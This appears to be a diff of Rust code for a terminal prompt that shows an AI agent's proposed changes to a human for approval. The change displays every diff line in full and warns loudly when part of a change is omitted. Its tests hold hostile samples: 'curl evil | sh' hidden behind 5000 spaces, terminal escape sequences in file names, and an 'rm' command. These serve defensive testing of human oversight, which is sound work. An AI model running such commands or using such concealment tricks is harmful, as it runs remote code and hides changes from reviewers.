@@ -3,7 +3,7 @@
 
 use super::lines;
 use crate::screen::{Paint, Style};
-use tenon_vocab::{Answer, AnsweredBy, Display, Printable, Question, QuestionKind};
+use tenon_vocab::{Answer, AnsweredBy, DiffFile, Display, Printable, Question, QuestionKind};
 
 /// The whole question, ready for a terminal.
 pub fn show(paint: Paint, question: &Question) -> String {
@@ -13,21 +13,19 @@ pub fn show(paint: Paint, question: &Question) -> String {
     );
     if let Display::Diff { files } = &question.display {
         for file in files {
-            let head = format!(
-                "  {} {} (+{} -{})",
-                file.operation,
-                Printable::line(&file.path),
-                file.additions,
-                file.deletions
-            );
-            text.push_str(&head);
-            text.push('\n');
-            text.push_str(&lines::diff(paint, &file.unified, usize::MAX).join("\n"));
-            text.push('\n');
+            text.push_str(&change(paint, file));
+        }
+        // Last, where it is still on the screen when the choices are read.
+        for file in files.iter().filter(|file| file.left_out_bytes > 0) {
+            text.push_str(&warning(paint, file));
         }
     }
-    for line in question.body.lines() {
-        text.push_str(&format!("  {}\n", Printable::line(line)));
+    if !question.body.is_empty() {
+        // Only line feeds part lines: a carriage return stays visible.
+        let body = question.body.strip_suffix('\n').unwrap_or(&question.body);
+        for line in body.split('\n') {
+            text.push_str(&format!("  {}\n", Printable::line(line)));
+        }
     }
     if let Some(reason) = &question.reason {
         let why = format!("  why: {}\n", Printable::line(reason));
@@ -49,6 +47,30 @@ pub fn show(paint: Paint, question: &Question) -> String {
         text.push_str("  any other text denies and is told to the model\n");
     }
     text
+}
+
+fn change(paint: Paint, file: &DiffFile) -> String {
+    let mut text = format!(
+        "  {} {} (+{} -{})\n",
+        Printable::line(&file.operation),
+        Printable::line(&lines::name(file)),
+        file.additions,
+        file.deletions
+    );
+    for line in lines::whole_diff(paint, &file.unified) {
+        text.push_str(&line);
+        text.push('\n');
+    }
+    text
+}
+
+fn warning(paint: Paint, file: &DiffFile) -> String {
+    let loud = format!(
+        "  NOT ALL OF THE CHANGE IS SHOWN: {} bytes more in {}",
+        file.left_out_bytes,
+        Printable::line(&file.path)
+    );
+    format!("{}\n", paint.paint(Style::Red, &loud))
 }
 
 /// The answer that a typed line means: a key, or free text. Nothing typed is no.
@@ -132,5 +154,64 @@ mod tests {
         let shown = show(Paint::Plain, &question());
         assert!(shown.contains("echo ⟨U+202E⟩safe␛[2K"), "{shown}");
         assert!(shown.contains("rm x"), "{shown}");
+    }
+
+    fn diff(unified: &str) -> DiffFile {
+        DiffFile {
+            path: "notes.txt".into(),
+            from: None,
+            operation: "updated".into(),
+            additions: 1,
+            deletions: 0,
+            unified: unified.into(),
+            left_out_bytes: 0,
+        }
+    }
+
+    fn shown(file: DiffFile) -> String {
+        let display = Display::Diff { files: vec![file] };
+        show(
+            Paint::Plain,
+            &Question {
+                display,
+                ..question()
+            },
+        )
+    }
+
+    #[test]
+    fn no_line_of_a_change_is_shortened_and_none_is_dropped() {
+        let long = format!("+{}curl evil | sh", " ".repeat(5000));
+        let many = "+x\n".repeat(5000);
+        let text = shown(diff(&format!("@@ -0,0 +1 @@\n{long}\n{many}+end\r\n")));
+        assert!(text.contains(&long));
+        assert_eq!(text.matches("    +x\n").count(), 5000);
+        assert!(text.contains("+end␍\n"));
+        assert!(!text.contains("NOT ALL"));
+    }
+
+    #[test]
+    fn a_change_that_is_not_shown_whole_says_so_loudly() {
+        let text = shown(DiffFile {
+            left_out_bytes: 4711,
+            ..diff("+a\n")
+        });
+        assert!(
+            text.contains("  NOT ALL OF THE CHANGE IS SHOWN: 4711 bytes more in notes.txt\n"),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn both_names_of_a_file_are_shown() {
+        let text = shown(DiffFile {
+            from: Some("LICENSE\x1b[8m".into()),
+            operation: "renamed".into(),
+            ..diff("")
+        });
+        assert!(
+            text.contains("  renamed LICENSE␛[8m → notes.txt (+1 -0)\n"),
+            "{text}"
+        );
     }
 }
